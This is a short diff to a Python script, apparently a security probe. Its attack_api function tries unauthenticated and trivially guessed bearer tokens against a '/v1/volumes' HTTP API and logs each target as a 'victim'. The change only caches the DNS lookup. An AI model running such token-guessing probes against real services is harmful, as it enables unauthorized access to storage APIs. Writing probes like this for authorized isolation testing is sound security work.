@@ -237,12 +237,20 @@ def forged(rpc, tgt, what, fh):
 
 def attack_api(hostport):
     host, port = hostport.rsplit(":", 1)
-    for token in [None, "guess", "Bearer", "0" * 64] + ARGS.token:
+    tokens = [None, "guess", "Bearer", "0" * 64] + ARGS.token
+    # resolve once: a name the notebook's DNS does not know takes seconds per lookup
+    try:
+        addr = socket.getaddrinfo(host, int(port), type=socket.SOCK_STREAM)[0][4]
+    except Exception as e:
+        for token in tokens:
+            out(step="api", target=hostport, token=token, ok=False, connected=False, error=str(e), victim=True)
+        return
+    for token in tokens:
         req = "GET /v1/volumes HTTP/1.0\r\nHost: %s\r\n" % hostport
         if token is not None:
             req += "Authorization: Bearer %s\r\n" % token
         try:
-            s = socket.create_connection((host, int(port)), timeout=ARGS.timeout)
+            s = socket.create_connection(addr[:2], timeout=ARGS.timeout)
             s.settimeout(ARGS.timeout + 2)
             s.sendall((req + "\r\n").encode())
             data = b""
